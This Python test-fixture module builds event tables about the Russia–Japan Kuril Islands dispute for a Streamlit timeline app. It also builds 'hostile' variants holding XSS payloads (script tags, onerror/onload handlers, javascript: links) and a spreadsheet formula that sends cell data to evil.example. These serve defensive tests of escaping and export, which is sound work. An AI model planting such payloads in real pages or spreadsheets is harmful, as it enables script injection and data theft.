"""The tests' event tables, built through the real pipeline: one small table for every stage's tests, its
hostile twin, the five events the presenter tests step through, and the bundled dataset.

The bundled dataset in ``data/`` is the demo and the browser tests' data; the small table is for
assertions that name single events.
"""

from __future__ import annotations

import functools
from dataclasses import replace

import pandas as pd

from diplotime import pipeline, store
from tests.conftest import DATA, ROOT

SMALL_CSV = """\
id,date,end_date,title,event_type,actors,countries,location,lat,lon,description,source,tags,dataset
shimoda,1855-02-07,,Treaty of Shimoda (日露和親条約),treaty,Tokugawa shogunate;Russian Empire,RUS;JPN,Shimoda,34.6797,138.9453,First treaty.,https://en.wikipedia.org/wiki/Treaty_of_Shimoda,treaty,kuril_dispute
petersburg,1875,,Treaty of Saint Petersburg (Петербургский договор),treaty,Alexander Gorchakov;Enomoto Takeaki,RUS;JPN,Saint Petersburg,59.9386,30.3141,Sakhalin exchanged for the Kurils.,Treaty text in the French original,treaty,kuril_dispute
invasion,1945-08-18,1945-09-02,Soviet invasion of the Kuril Islands,military,Red Army,RUS;JPN,Shumshu,50.75,156.3,The Kuril landing operation.,https://example.org/invasion,ww2,kuril_dispute
occupation,1945-08,,Soviet forces occupy the southern islands,military,Red Army,RUS;JPN,Iturup,45.25,147.9,Month precision.,https://example.org/occupation,ww2,kuril_dispute
declaration,1956-10-19,,Soviet–Japanese Joint Declaration,treaty,Nikolai Bulganin;Ichiro Hatoyama,RUS;JPN,Moscow,55.7558,37.6173,Ends the state of war.,https://example.org/1956,treaty,kuril_dispute
talks,2019-01-14,,Kono–Lavrov peace-treaty talks in Moscow,ministerial_talks,Taro Kono;Sergey Lavrov,JPN;RUS,Moscow,55.7558,37.6173,Talks on a peace treaty.,https://example.org/talks,2019,kuril_dispute
presser,2019-01-16,,Lavrov's annual press conference,press_conference,Sergey Lavrov,RUS;JPN,Moscow,55.7558,37.6173,Japan must accept the results of WWII.,https://example.org/presser,2019,kuril_dispute
rally,2019-01-20,,Moscow rally against any handover,protest,Russian nationalists,RUS,Moscow,55.7558,37.6173,A rally in Moscow.,https://example.org/rally,2019,kuril_dispute
summit,2019-01-22,,Abe–Putin talks in the Kremlin,summit,Shinzo Abe;Vladimir Putin,JPN;RUS,Moscow,55.7558,37.6173,"Talks.
Second paragraph.",https://example.org/summit,2019,kuril_dispute
visit,2019-08-02,,Medvedev visits Etorofu,visit,Dmitry Medvedev,RUS;JPN,Iturup,45.25,147.9,Fourth visit to a disputed island.,https://example.org/visit,2019,kuril_dispute
tokyo,2022-02-07,,US ambassador backs Japan on Northern Territories Day,statement,Rahm Emanuel,USA;JPN,Tokyo,35.6762,139.6503,Statement in Tokyo.,https://example.org/tokyo,2022,other_set
nowhere,2023-05,,Poll without a place,poll,Levada Center,RUS,,,,A poll.,,poll,other_set
"""
TALK_IDS = ["shimoda", "petersburg", "occupation", "summit", "nowhere"]

HOSTILE_TITLE = '<img src=x onerror="window.__xss=1"> %{y} [click](javascript:alert(1))'
HOSTILE_DESCRIPTION = "<script>window.__xss=1</script><style>body{display:none}</style>"
HOSTILE_SOURCE = "javascript:alert(1)"
HOSTILE_ACTOR = "<b>Bold</b> actor"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@functools.lru_cache(maxsize=4)
def _checked(csv: str) -> pd.DataFrame:
    result = pipeline.check_file(csv.encode("utf-8"), "small.csv")
    assert not result.problems, result.problems
    return result.events.reset_index(drop=True)


def small_events(csv: str = SMALL_CSV) -> pd.DataFrame:
    """The table above as the store returns it (canonical and store columns); a new frame each call."""
    return _checked(csv).copy()


def hostile_events() -> pd.DataFrame:
    """Events whose text tries HTML, script, template fields, markdown links and a javascript: source.

    Validation rejects a javascript: source at import, so it is written here directly, as an older
    store or another tool might have done.
    """
    events = small_events()
    events.loc[events["id"] == "summit", "title"] = HOSTILE_TITLE
    events.loc[events["id"] == "summit", "description"] = HOSTILE_DESCRIPTION
    events.loc[events["id"] == "summit", "source"] = HOSTILE_SOURCE
    events.loc[events["id"] == "summit", "actors"] = HOSTILE_ACTOR + ";Vladimir Putin"
    events.loc[events["id"] == "rally", "location"] = "<svg onload=alert(1)>Moscow"
    events.loc[events["id"] == "tokyo", "title"] = FORMULA_TITLE
    return events


def talk_events() -> pd.DataFrame:
    """Five events for the presenter and export tests: every date precision, one event with no place and no
    source, one with two paragraphs, all of one dataset, and a javascript: source the slides must never link (as an older store
    might hold)."""
    events = small_events()
    events = events[events["id"].isin(TALK_IDS)].reset_index(drop=True)
    events.loc[events["id"] == "occupation", "source"] = HOSTILE_SOURCE
    events["dataset"] = "kuril_dispute"  # one dataset: the talk's title is its name
    return events


@functools.lru_cache(maxsize=1)
def _kuril() -> pd.DataFrame:
    path = DATA / "kuril_dispute.csv"
    return pipeline.check_file(path.read_bytes(), path.name).events.reset_index(drop=True)


def kuril_events() -> pd.DataFrame:
    """The bundled dataset, as the store returns it; a new frame each call."""
    return _kuril().copy()


def build_store(url: str, events: pd.DataFrame | None = None) -> None:
    """A store holding exactly ``events`` (by default the small table), not seeded from data/."""
    engine = store.open_store(url, seed_from=None)
    events = small_events() if events is None else events
    result = pipeline.check_file(SMALL_CSV.encode("utf-8"), "small.csv")
    result = replace(result, events=events, problems=[])
    store.import_events(engine, result, file_name="small.csv", data_hash=store.file_hash(SMALL_CSV.encode()))
    engine.dispose()


# ---------------------------------------------------------------- pages under AppTest


def page_harness(page: str) -> None:
    """Run one page the way app.py does: inside the shared furniture (view from the link, sidebar, link)."""
    import runpy

    from diplotime import ui

    ui.run_page(lambda: runpy.run_path(page, run_name="__main__"))


def open_page(page: str, query: dict | None = None, timeout: float = 60):  # noqa: ANN201 - an AppTest
    """A page (e.g. 'pages/timeline.py') under AppTest, opened with ``query`` as its link's parameters."""
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_function(page_harness, args=(str(ROOT / page),), default_timeout=timeout)
    at.query_params = dict(query or {})
    return at.run()
